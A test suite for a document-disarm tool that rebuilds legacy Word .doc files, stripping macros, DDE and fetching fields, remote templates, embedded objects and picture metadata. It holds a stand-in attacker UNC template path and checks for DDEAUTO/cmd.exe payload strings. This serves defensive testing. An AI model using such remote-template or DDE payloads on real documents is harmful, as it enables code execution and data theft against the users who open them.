import { execFileSync } from 'node:child_process';
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';

import {
  ACTIVE_CONTENT_SIGNATURES,
  buildImage,
  buildWordBinary,
  clamscanVerdicts,
  damageCompoundFile,
  EICAR_TEST_FILE,
  ensureExiftool,
  exiftoolTags,
  exiftoolWrite,
  olefileListing,
  convertWithLibreOffice,
  pngChunk,
  unexpectedImageTags,
  withPngChunks,
} from '@disarm/fixtures';
import { describe, expect, it, vi } from 'vitest';

import { parseCompoundFile } from '../../../_internal/cfb/read.ts';
import { writeCompoundFile } from '../../../_internal/cfb/write.ts';
import { disarm } from '../../../disarm.ts';
import { cleaned, engineContext, findingsOf } from '../../../test-support.ts';
import { VerifyFailure } from '../../types.ts';
import { NO_CLSID } from '../../../_internal/cfb/tree.ts';
import type { CompoundNode, CompoundStorage } from '../../../_internal/cfb/tree.ts';
import { FindingTally } from '../../../findings.ts';
import { artChildren, readArtRecord, walkArtRecords } from '../office-art.ts';
import { neutraliseFields } from './fields.ts';
import { FC_LCB, fcLcb, parseFib } from './fib.ts';
import { scanObjectPool } from './objects.ts';
import { verifyWordBinary } from './verify.ts';
import { scaledMs } from '@disarm/fixtures/time-budget';

// These tests run for minutes on a busy machine: one hang guard for the file, scaled by the
// machine's load when it starts, so that load makes them slower, never red.
vi.setConfig({ testTimeout: scaledMs(300_000) });

const TEXTS = ['Quarterly numbers are up', 'Second paragraph'];
const TEMPLATE = '\\\\attacker.example\\share\\evil.dotm';
const utf16 = (text: string): Buffer => Buffer.from(text, 'utf16le');
const PNG_SIGNATURE = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
const PNG_END = Buffer.from('IEND');

/** The PNG pictures a stream holds, cut from their signature to their IEND chunk. */
function pngsIn(stream: Buffer): Buffer[] {
  const pngs: Buffer[] = [];
  for (
    let at = stream.indexOf(PNG_SIGNATURE);
    at >= 0;
    at = stream.indexOf(PNG_SIGNATURE, at + 1)
  ) {
    const end = stream.indexOf(PNG_END, at);
    if (end > at) pngs.push(stream.subarray(at, end + 8));
  }
  return pngs;
}

/** A stream of a compound file, as python-olefile reads it. */
function streamOf(bytes: Uint8Array, path: string): Buffer {
  return Buffer.from(
    olefileListing(bytes).entries.find((entry) => entry.path === path)?.hex ?? '',
    'hex',
  );
}

/** Text and the number of pictures LibreOffice draws for each file, read from its PDF export. */
function drawnByLibreOffice(
  files: Record<string, Uint8Array>,
): Record<string, { text: string; images: number }> {
  const dir = mkdtempSync(join(tmpdir(), 'word-pictures-'));
  try {
    mkdirSync(join(dir, 'files'));
    for (const [name, bytes] of Object.entries(files))
      writeFileSync(join(dir, 'files', name), bytes);
    const pdfs = join(dir, 'pdf');
    convertWithLibreOffice({
      to: 'pdf',
      outDir: pdfs,
      files: Object.keys(files).map((name) => join(dir, 'files', name)),
      profileDir: join(dir, 'profile'),
    });
    const drawn: Record<string, { text: string; images: number }> = {};
    for (const name of Object.keys(files)) {
      const pdf = join(pdfs, name.replace(/\.doc$/, '.pdf'));
      drawn[name] = {
        text: execFileSync('pdftotext', [pdf, '-'], { encoding: 'utf8' }).replace(/\s+/g, ''),
        images: execFileSync('pdfimages', ['-list', pdf], { encoding: 'utf8' })
          .trim()
          .split('\n')
          .slice(2).length,
      };
    }
    return drawn;
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
}

async function rebuild(bytes: Uint8Array, fileName = 'f.doc'): Promise<Buffer> {
  return Buffer.from(cleaned(await disarm({ bytes, fileName })).bytes);
}

describe('Word 97-2003 rebuild', () => {
  it('keeps only WordDocument, the table stream and Data, and drops the VBA project', async () => {
    const input = await buildWordBinary({ texts: TEXTS, vba: true });
    expect(olefileListing(input).entries.map((entry) => entry.path)).toContain('Macros/VBA/dir');
    const outcome = cleaned(await disarm({ bytes: input, fileName: 'f.doc' }));
    expect(findingsOf(outcome)).toEqual({ 'vba-macro': 1 });
    const listing = olefileListing(outcome.bytes);
    expect(listing.issues).toEqual([]);
    expect(listing.entries.map((entry) => entry.path)).toEqual(['1Table', 'WordDocument']);
    expect(listing.entries.every((entry) => entry.zeroTimes)).toBe(true);
  });

  it('neutralises DDE and fetching fields and keeps their result text', async () => {
    const input = await buildWordBinary({ texts: TEXTS, dde: true, fetchingFields: true });
    expect(input.includes(utf16('DDEAUTO'))).toBe(true);
    const outcome = cleaned(await disarm({ bytes: input, fileName: 'f.doc' }));
    // LibreOffice writes INCLUDEPICTURE \\d as a linked picture, which it keeps in no field.
    expect(findingsOf(outcome)).toEqual({ 'dde-link': 2, 'external-relationship': 1 });
    const output = Buffer.from(outcome.bytes);
    for (const gone of ['DDEAUTO', 'cmd.exe', 'INCLUDETEXT', 'INCLUDEPICTURE', 'attacker']) {
      expect(output.includes(utf16(gone)), gone).toBe(false);
    }
    for (const kept of ['included', 'picture', 'PAGE', ...TEXTS]) {
      expect(output.includes(utf16(kept)), kept).toBe(true);
    }
  });

  it('neutralises a field in 8-bit text as in 16-bit text', async () => {
    const input = await buildWordBinary({ texts: TEXTS, dde: true });
    const { root } = parseCompoundFile(input, { what: 'the input', maxBytes: input.length });
    const streams = new Map(
      root.children.flatMap((entry) => (entry.kind === 'stream' ? [[entry.name, entry]] : [])),
    );
    const wide = Buffer.from(streams.get('WordDocument')?.content ?? []);
    const fib = parseFib(wide, 'the input');
    const table = Buffer.from(streams.get(fib.tableName)?.content ?? []);
    const wideReport = neutraliseFields(Buffer.from(wide), Buffer.from(table), fib, 'x', true);
    // Each piece ([MS-DOC] 2.9.177 Pcd) stored again as 8-bit text after the stream's end, as
    // Word stores text of one-byte characters (fc doubled, bit 30 set).
    const { fc, lcb } = fcLcb(wide, fib, FC_LCB.clx);
    const plc = fc + 5;
    const count = (lcb - 5 - 4) / 12;
    expect(table[fc]).toBe(0x02);
    const eight: Buffer[] = [wide];
    let end = wide.length;
    for (let i = 0; i < count; i += 1) {
      const cps = table.readUInt32LE(plc + (i + 1) * 4) - table.readUInt32LE(plc + i * 4);
      const pcd = plc + (count + 1) * 4 + i * 8;
      const at = table.readUInt32LE(pcd + 2) & 0x3fffffff;
      const text = Buffer.from(wide.subarray(at, at + cps * 2).toString('utf16le'), 'latin1');
      table.writeUInt32LE(((end * 2) | 0x40000000) >>> 0, pcd + 2);
      eight.push(text);
      end += text.length;
    }
    const word = Buffer.concat(eight);
    expect(word.includes(Buffer.from('DDEAUTO', 'latin1'))).toBe(true);
    const report = neutraliseFields(word, table, fib, 'the input', true);
    expect(report.removed).toEqual(['dde-link', 'dde-link']);
    expect(report.removed).toEqual(wideReport.removed);
    expect(word.subarray(wide.length).includes(Buffer.from('DDEAUTO', 'latin1'))).toBe(false);
    for (const kept of TEXTS) expect(word.includes(Buffer.from(kept, 'latin1')), kept).toBe(true);
  });

  it('leaves the submitted bytes as they were, whatever it neutralises', async () => {
    // A Buffer, as a service reads a file, with streams past the mini-stream cutoff (4096 bytes),
    // which the reader hands out as views of it: they must never be written through.
    const texts = Array.from({ length: 200 }, (_, index) => `Paragraph ${index} of the report`);
    const input = await buildWordBinary({ texts, dde: true, template: TEMPLATE, vba: true });
    const { root } = parseCompoundFile(input, { what: 'the input', maxBytes: input.length });
    const word = root.children.find((child) => child.name === 'WordDocument');
    expect(word?.kind === 'stream' && word.content.length > 4096).toBe(true);
    const before = Buffer.from(input);
    cleaned(await disarm({ bytes: input, fileName: 'f.doc' }));
    expect(input.equals(before)).toBe(true);
  });

  it('clears the attached template and zeroes table bytes no FIB pair points at', async () => {
    const input = await buildWordBinary({
      texts: TEXTS,
      template: TEMPLATE,
      leftover: 'LEFTOVER-SECRET',
    });
    expect(input.includes(utf16(TEMPLATE))).toBe(true);
    const outcome = cleaned(await disarm({ bytes: input, fileName: 'f.dot' }));
    expect(findingsOf(outcome)).toEqual({ 'external-relationship': 1 });
    const output = Buffer.from(outcome.bytes);
    expect(output.includes(utf16(TEMPLATE))).toBe(false);
    expect(output.includes(Buffer.from('LEFTOVER-SECRET'))).toBe(false);
  });

  it('rebuilds a template (.dot) as a template', async () => {
    const output = await rebuild(await buildWordBinary({ texts: TEXTS, dot: true }), 'f.dot');
    const word = Buffer.from(
      olefileListing(output).entries.find((entry) => entry.path === 'WordDocument')?.hex ?? '',
      'hex',
    );
    expect(word.readUInt16LE(10) & 0x0001).toBe(1);
  });

  it('is idempotent: its output rebuilds to the same bytes with nothing to report', async () => {
    const input = await buildWordBinary({
      texts: TEXTS,
      dde: true,
      vba: true,
      template: TEMPLATE,
      embeddedObject: true,
    });
    const first = cleaned(await disarm({ bytes: input, fileName: 'f.doc' }));
    const second = cleaned(await disarm({ bytes: first.bytes, fileName: 'f.doc' }));
    expect(second.findings).toEqual([]);
    expect(Buffer.from(second.bytes).equals(Buffer.from(first.bytes))).toBe(true);
  });

  it('drops embedded objects and keeps their preview picture where the object was', async () => {
    const input = await buildWordBinary({ texts: TEXTS, embeddedObject: true });
    const objects = olefileListing(input).entries.filter((e) => e.path.startsWith('ObjectPool/'));
    expect(objects.map((entry) => entry.path)).toContain(
      'ObjectPool/_2147483647/\u0001Ole10Native',
    );
    expect(input.includes(utf16('EMBED'))).toBe(true);
    const outcome = cleaned(await disarm({ bytes: input, fileName: 'f.doc' }));
    expect(outcome.findings).toEqual([
      {
        kind: 'embedded-object',
        count: 1,
        locations: [{ part: 'ObjectPool/_2147483647', count: 1 }],
      },
    ]);
    const listing = olefileListing(outcome.bytes);
    expect(listing.issues).toEqual([]);
    expect(listing.entries.map((entry) => entry.path)).toEqual(['1Table', 'Data', 'WordDocument']);
    const output = Buffer.from(outcome.bytes);
    expect(output.includes(utf16('EMBED'))).toBe(false);
    expect(output.includes(Buffer.from('calc.exe'))).toBe(false);
    // The preview picture stays in the Data stream, its metafile rebuilt rather than copied.
    expect(streamOf(outcome.bytes, 'Data').length).toBeGreaterThan(0);
    expect(streamOf(outcome.bytes, 'Data').equals(streamOf(input, 'Data'))).toBe(false);

    // Independent judges: ClamAV flags the package in the input and nothing in the output;
    // LibreOffice draws the preview (its icon a bitmap, its caption text) in both, with the
    // same text around it.
    const dir = mkdtempSync(join(tmpdir(), 'word-objects-'));
    try {
      writeFileSync(join(dir, 'signatures.ndb'), ACTIVE_CONTENT_SIGNATURES);
      mkdirSync(join(dir, 'files'));
      writeFileSync(join(dir, 'files', 'in.doc'), input);
      writeFileSync(join(dir, 'files', 'out.doc'), output);
      const verdicts = clamscanVerdicts(join(dir, 'files'), join(dir, 'signatures.ndb'));
      expect(verdicts['in.doc']).toBe('Disarm.Doc.Ole10Native.UNOFFICIAL');
      expect(verdicts['out.doc']).toBe('OK');
      const pdfs = join(dir, 'pdf');
      convertWithLibreOffice({
        to: 'pdf',
        outDir: pdfs,
        files: [join(dir, 'files', 'in.doc'), join(dir, 'files', 'out.doc')],
        profileDir: join(dir, 'profile'),
      });
      const text = (name: string): string =>
        execFileSync('pdftotext', [join(pdfs, `${name}.pdf`), '-'], { encoding: 'utf8' })
          .replace(/\s+/g, '')
          .trim();
      const images = (name: string): number =>
        execFileSync('pdfimages', ['-list', join(pdfs, `${name}.pdf`)], { encoding: 'utf8' })
          .trim()
          .split('\n')
          .slice(2).length;
      expect(text('out')).toBe(text('in'));
      expect(text('out')).toContain('Budget.xls');
      expect(images('out')).toBeGreaterThanOrEqual(1);
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });

  it('rebuilds inline, floating and preview pictures: nothing of theirs is copied', async () => {
    ensureExiftool();
    const png = await buildImage('png', { width: 40, height: 30 });
    const inline = withPngChunks(png, [pngChunk('tEXt', 'Comment\0INLINE-SECRET')]);
    const floating = exiftoolWrite(png, 'png', ['-EXIF:Artist=FLOATING-SECRET']);
    const input = await buildWordBinary({
      texts: TEXTS,
      picture: inline,
      floatingPicture: floating,
      embeddedObject: true,
    });
    // LibreOffice stores the PNGs as they were: the inline one in the Data stream (a PICF and
    // its BLIP), the floating one in the WordDocument stream, named by the drawings' BLIP store.
    expect(pngsIn(streamOf(input, 'Data')).some((p) => p.includes('INLINE-SECRET'))).toBe(true);
    expect(pngsIn(streamOf(input, 'WordDocument')).some((p) => p.includes('FLOATING-SECRET'))).toBe(
      true,
    );

    const outcome = cleaned(await disarm({ bytes: input, fileName: 'f.doc' }));
    expect(findingsOf(outcome)).toEqual({ 'embedded-object': 1, 'image-metadata': 2 });
    const output = Buffer.from(outcome.bytes);
    for (const secret of ['INLINE-SECRET', 'FLOATING-SECRET']) {
      expect(output.includes(Buffer.from(secret)), secret).toBe(false);
    }
    // Independent judge: exiftool reads nothing but pixels and structure in each picture kept.
    const pictures = [
      ...pngsIn(streamOf(output, 'Data')),
      ...pngsIn(streamOf(output, 'WordDocument')),
    ];
    expect(pictures).toHaveLength(2);
    for (const picture of pictures)
      expect(unexpectedImageTags(exiftoolTags(picture, 'png'))).toEqual([]);

    // LibreOffice reads the same text and draws the same pictures (two PNGs and the preview's
    // icon) from the output as from the input.
    const drawn = drawnByLibreOffice({ 'in.doc': input, 'out.doc': output });
    expect(drawn['out.doc']).toEqual(drawn['in.doc']);
    expect(drawn['out.doc']?.images).toBe(3);
    expect(drawn['out.doc']?.text).toContain('Besidethefloatingpicture');

    const again = cleaned(await disarm({ bytes: output, fileName: 'f.doc' }));
    expect(again.findings).toEqual([]);
    expect(Buffer.from(again.bytes).equals(output)).toBe(true);
  });

  it("drops the path of an inline picture's file (MM_SHAPEFILE) and keeps the picture", async () => {
    const png = await buildImage('png', { width: 40, height: 30 });
    const input = await buildWordBinary({ texts: TEXTS, picture: png });
    const path = 'C:\\Users\\alice\\Pictures\\holiday.png';
    const { root } = parseCompoundFile(input, { what: 'input', maxBytes: 1e8 });
    // [MS-DOC] 2.9.192: the one picture at 0 of the Data stream, given the name Word writes
    // after the PICF of a picture inserted from a file (mfpf.mm MM_SHAPEFILE, 0x66).
    const children = root.children.map((child) => {
      if (child.kind !== 'stream' || child.name !== 'Data') return child;
      const data = Buffer.from(child.content);
      const picf = Buffer.from(data.subarray(0, 68));
      const name = Buffer.concat([Buffer.from([path.length]), Buffer.from(path, 'latin1')]);
      picf.writeUInt32LE(data.readUInt32LE(0) + name.length, 0);
      picf.writeUInt16LE(0x66, 6);
      return { ...child, content: Buffer.concat([picf, name, data.subarray(68)]) };
    });
    const named = writeCompoundFile({ ...root, children });
    expect(Buffer.from(named).includes(Buffer.from(path, 'latin1'))).toBe(true);
    const outcome = cleaned(await disarm({ bytes: named, fileName: 'f.doc' }));
    expect(outcome.findings).toEqual([]);
    expect(Buffer.from(outcome.bytes).includes(Buffer.from('holiday'))).toBe(false);
    const data = streamOf(outcome.bytes, 'Data');
    expect(data.readUInt16LE(6)).toBe(0x64);
    expect(pngsIn(data)).toHaveLength(1);
  });

  it('unlinks a floating picture from where it was fetched and keeps it shown', async () => {
    const png = await buildImage('png', { width: 40, height: 30 });
    const input = await buildWordBinary({ texts: TEXTS, floatingPicture: png });
    const { root } = parseCompoundFile(input, { what: 'input', maxBytes: 1e8 });
    // The floating shape's pibFlags ([MS-ODRAW] 2.3.23) say: load the picture from its name,
    // a URL, when the document is shown (msoblipflagURL | msoblipflagLinkToFile).
    const children = root.children.map((child) => {
      if (child.kind !== 'stream' || child.name !== '1Table') return child;
      const table = Buffer.from(child.content);
      const word = root.children.find((entry) => entry.name === 'WordDocument');
      if (word?.kind !== 'stream') throw new Error('no WordDocument');
      const fc = Buffer.from(word.content).readUInt32LE(154 + 50 * 8);
      const lcb = Buffer.from(word.content).readUInt32LE(154 + 50 * 8 + 4);
      const dgg = readArtRecord(table, fc, fc + lcb, 'x');
      const drawing = readArtRecord(table, dgg.end + 1, fc + lcb, 'x');
      let flags = 0;
      walkArtRecords(table, drawing, 'x', (record) => {
        if (record.recType !== 0xf00b) return;
        for (let i = 0; i < record.recInstance; i += 1) {
          const at = record.body + i * 6;
          if ((table.readUInt16LE(at) & 0x3fff) === 0x0106) flags = at + 2;
        }
      });
      if (flags === 0) throw new Error('LibreOffice wrote no pibFlags');
      table.writeUInt32LE(0x0a, flags);
      return { ...child, content: table };
    });
    const linked = writeCompoundFile({ ...root, children });
    const outcome = cleaned(await disarm({ bytes: linked, fileName: 'f.doc' }));
    expect(findingsOf(outcome)).toEqual({ 'external-relationship': 1 });
    const drawn = drawnByLibreOffice({ 'in.doc': input, 'out.doc': outcome.bytes });
    expect(drawn['out.doc']).toEqual(drawn['in.doc']);
    expect(drawn['out.doc']?.images).toBe(1);
    // Verify holds the link out of a written file.
    const streams = ['WordDocument', '1Table', 'Data'];
    const kept = writeCompoundFile({
      ...root,
      children: children.filter((child) => streams.includes(child.name)),
    });
    const error: unknown = await verifyWordBinary(
      { bytes: kept, findings: [] },
      engineContext(),
    ).catch((caught: unknown) => caught);
    expect(error instanceof VerifyFailure && error.check).toBe('word.pictures');
  });

  it('drops a picture that does not rebuild and keeps the document readable', async () => {
    const png = await buildImage('png', { width: 40, height: 30 });
    const input = await buildWordBinary({ texts: TEXTS, picture: png });
    // The picture's pixel data broken where it is: the PNG no longer decodes.
    const { root } = parseCompoundFile(input, { what: 'input', maxBytes: 1e8 });
    const children = root.children.map((child) => {
      if (child.kind !== 'stream' || child.name !== 'Data') return child;
      const data = Buffer.from(child.content);
      const idat = data.indexOf('IDAT');
      data.fill(0x5a, idat + 4, idat + 24);
      return { ...child, content: data };
    });
    const damaged = writeCompoundFile({ ...root, children });
    const outcome = cleaned(await disarm({ bytes: damaged, fileName: 'f.doc' }));
    expect(findingsOf(outcome)).toEqual({ 'hidden-data': 1 });
    expect(olefileListing(outcome.bytes).entries.map((entry) => entry.path)).toEqual([
      '1Table',
      'WordDocument',
    ]);
    const drawn = drawnByLibreOffice({ 'in.doc': input, 'out.doc': outcome.bytes });
    expect(drawn['out.doc']?.text).toBe(drawn['in.doc']?.text);
    expect(drawn['in.doc']?.images).toBe(1);
    expect(drawn['out.doc']?.images).toBe(0);
  });

  it('rebuilds or rejects a document whose picture structures are damaged, never failing', async () => {
    const png = await buildImage('png', { width: 40, height: 30 });
    const input = await buildWordBinary({ texts: TEXTS, picture: png, floatingPicture: png });
    const { root } = parseCompoundFile(input, { what: 'input', maxBytes: 1e8 });
    const content = (name: string): Buffer => {
      const child = root.children.find((entry) => entry.name === name);
      if (child?.kind !== 'stream') throw new Error(`LibreOffice wrote no ${name}`);
      return Buffer.from(child.content);
    };
    const word = content('WordDocument');
    const table = content('1Table');
    const data = content('Data');
    // The inline picture: its PICF at 0, the shape, then its BLIP store entry and BLIP.
    const shape = readArtRecord(data, 68, data.length, 'x');
    const inlineEntry = readArtRecord(data, shape.end, data.length, 'x');
    // The floating picture: the BLIP store entry of the drawings ([MS-DOC] fcDggInfo).
    const dggInfo = word.readUInt32LE(154 + 50 * 8);
    const [store] = artChildren(
      table,
      readArtRecord(table, dggInfo, table.length, 'x'),
      'x',
    ).filter((child) => child.recType === 0xf001);
    if (!store) throw new Error('LibreOffice wrote no BLIP store');
    const [entry] = artChildren(table, store, 'x');
    if (!entry) throw new Error('LibreOffice wrote no BLIP store entry');
    const delay = table.readUInt32LE(entry.body + 28);
    const damages: [string, number, number][] = [
      ['Data', 0, 0xffffffff],
      ['Data', 0, 10],
      ['Data', 4, 0],
      ['Data', 6, 8],
      ['Data', shape.offset + 4, 0x7fffffff],
      ['Data', inlineEntry.offset + 4, 3],
      ['Data', inlineEntry.body + 40, 0xfffffff0],
      ['1Table', entry.body + 20, 0xffffffff],
      ['1Table', entry.body + 28, 0xfffffff0],
      ['1Table', entry.body + 28, 0],
      ['1Table', store.offset + 4, 0x7fffffff],
      ['WordDocument', delay + 4, 3],
    ];
    for (const [name, offset, value] of damages) {
      const children = root.children.map((child) => {
        if (child.kind !== 'stream' || child.name !== name) return child;
        const damaged = Buffer.from(child.content);
        damaged.writeUInt32LE(value, offset);
        return { ...child, content: damaged };
      });
      const outcome = await disarm({
        bytes: writeCompoundFile({ ...root, children }),
        fileName: 'f.doc',
      });
      const what = `${name}@${offset}=${value}`;
      if (outcome.status === 'rejected') {
        expect(outcome.reason, what).toBe('invalid_file');
        expect(outcome.detail, what).not.toContain('the written document');
      } else {
        expect(outcome.status, what).toBe('cleaned');
      }
    }
  });

  it('scans every stream of an object before it drops it', async () => {
    const clean = await disarm({
      bytes: await buildWordBinary({ texts: TEXTS, objectPool: true }),
      fileName: 'f.doc',
    });
    expect(findingsOf(cleaned(clean))).toEqual({ 'embedded-object': 1 });
    const infected = await disarm({
      bytes: await buildWordBinary({
        texts: TEXTS,
        objectPool: true,
        payload: EICAR_TEST_FILE.toString('latin1'),
      }),
      fileName: 'f.doc',
    });
    expect(infected).toMatchObject({
      status: 'rejected',
      reason: 'threat_detected',
      threatNames: ['EICAR-Test-File'],
    });
    if (infected.status === 'rejected') {
      expect(infected.detail).toContain('ObjectPool/_1234567/CONTENTS');
    }
  });

  it('hands each object stream to the scanners, named by its path with escaped control characters', async () => {
    const scanned: string[] = [];
    const context = {
      ...engineContext(),
      scanMember: (input: { fileName: string }) => {
        scanned.push(input.fileName);
        return Promise.resolve(input.fileName.endsWith('Ole10Native') ? ['Win.Trojan.Test'] : []);
      },
    };
    const stream = (name: string): CompoundNode => ({
      kind: 'stream',
      name,
      content: new Uint8Array(8),
    });
    const storage = (name: string, children: CompoundNode[]): CompoundStorage => ({
      kind: 'storage',
      name,
      clsid: NO_CLSID,
      stateBits: 0,
      children,
    });
    const pool = storage('ObjectPool', [
      storage('_1577691201', [stream('\u0001Ole10Native'), stream('\u0003ObjInfo')]),
    ]);
    const error: unknown = await scanObjectPool(
      pool,
      new Uint8Array(),
      context,
      new FindingTally(),
    ).catch((caught: unknown) => caught);
    expect(scanned).toEqual([
      'ObjectPool/_1577691201/\\x01Ole10Native',
      'ObjectPool/_1577691201/\\x03ObjInfo',
    ]);
    expect(error).toMatchObject({ reason: 'threat_detected', threatNames: ['Win.Trojan.Test'] });
    expect(error instanceof Error && error.message).toContain(
      'Win.Trojan.Test in stream "ObjectPool/_1577691201/\\x01Ole10Native"',
    );
  });

  it('rejects Word 6/95 documents and damaged containers as invalid_file', async () => {
    const word95 = await buildWordBinary({ texts: TEXTS, nFib: 0x0068 });
    const old = await disarm({ bytes: word95, fileName: 'f.doc' });
    expect(old).toMatchObject({ status: 'rejected', reason: 'invalid_file' });
    if (old.status === 'rejected') expect(old.detail).toContain('Word 6 or Word 95');
    // Word 6 and 95 write their own FIB, told by its wIdent.
    const word6 = await buildWordBinary({ texts: TEXTS, wIdent: 0xa5dc });
    const six = await disarm({ bytes: word6, fileName: 'f.doc' });
    expect(six).toMatchObject({ status: 'rejected', reason: 'invalid_file' });
    if (six.status === 'rejected') expect(six.detail).toContain('Word 6 or Word 95 document');

    const long = await buildWordBinary({
      texts: Array.from({ length: 80 }, (_, i) => `Line ${i}`),
    });
    const cycle = await disarm({
      bytes: damageCompoundFile(long, 'fat-cycle'),
      fileName: 'f.doc',
    });
    expect(cycle).toMatchObject({ status: 'rejected', reason: 'invalid_file' });
  });

  it('rejects RTF, WordPerfect and Graphviz files named .doc or .dot as invalid_file', async () => {
    const files: [string, Uint8Array][] = [
      ['rtf.doc', Buffer.from('{\\rtf1\\ansi Hello}')],
      ['wp.doc', Buffer.concat([Buffer.from([0xff, 0x57, 0x50, 0x43]), Buffer.alloc(60)])],
      ['graph.dot', Buffer.from('digraph G { a -> b; }\n')],
    ];
    for (const [fileName, bytes] of files) {
      expect(await disarm({ bytes, fileName }), fileName).toMatchObject({
        status: 'rejected',
        reason: 'invalid_file',
      });
    }
  });

  it('verify fails a written file that kept a field, a macro storage or a template', async () => {
    const failure = async (bytes: Uint8Array, keep: (name: string) => boolean): Promise<string> => {
      const { root } = parseCompoundFile(bytes, { what: 'input', maxBytes: 1e8 });
      const written = writeCompoundFile({
        ...root,
        children: root.children.filter((child) => keep(child.name)),
      });
      const error: unknown = await verifyWordBinary(
        { bytes: written, findings: [] },
        engineContext(),
      ).catch((caught: unknown) => caught);
      if (!(error instanceof VerifyFailure)) throw new Error('verify passed');
      return error.check;
    };
    const streams = (name: string): boolean => ['WordDocument', '1Table'].includes(name);
    const dde = await buildWordBinary({ texts: TEXTS, dde: true });
    expect(await failure(dde, streams)).toBe('word.fields');
    const vba = await buildWordBinary({ texts: TEXTS, vba: true });
    expect(await failure(vba, (name) => streams(name) || name === 'Macros')).toBe('cfb.entries');
    const dot = await buildWordBinary({ texts: TEXTS, template: TEMPLATE });
    expect(await failure(dot, streams)).toBe('word.template');
    // Summary information is never written: the allowlist of streams holds it out.
    expect(await failure(dot, (name) => streams(name) || name === '\u0005SummaryInformation')).toBe(
      'cfb.entries',
    );
    // A picture copied as it was, its text chunk and its BLIP store entry's place kept.
    const pictured = await buildWordBinary({
      texts: TEXTS,
      picture: withPngChunks(await buildImage('png'), [pngChunk('tEXt', 'Comment\0kept')]),
    });
    expect(await failure(pictured, (name) => streams(name) || name === 'Data')).toBe(
      'word.pictures',
    );
    // An object's field blanked, its storage gone, but its characters still OLE objects.
    const object = await buildWordBinary({ texts: TEXTS, embeddedObject: true });
    const { root } = parseCompoundFile(object, { what: 'input', maxBytes: 1e8 });
    const children = root.children.flatMap((child) =>
      child.kind === 'stream' && ['WordDocument', '1Table', 'Data'].includes(child.name)
        ? [{ ...child, content: child.content.slice() }]
        : [],
    );
    const word = children.find((child) => child.name === 'WordDocument')?.content;
    const table = children.find((child) => child.name === '1Table')?.content;
    if (!word || !table) throw new Error('LibreOffice wrote no text');
    neutraliseFields(word, table, parseFib(word, 'input'), 'input', true);
    const written = writeCompoundFile({ ...root, children });
    const error: unknown = await verifyWordBinary(
      { bytes: written, findings: [] },
      engineContext(),
    ).catch((caught: unknown) => caught);
    expect(error instanceof VerifyFailure && error.check).toBe('word.objects');
  });
});
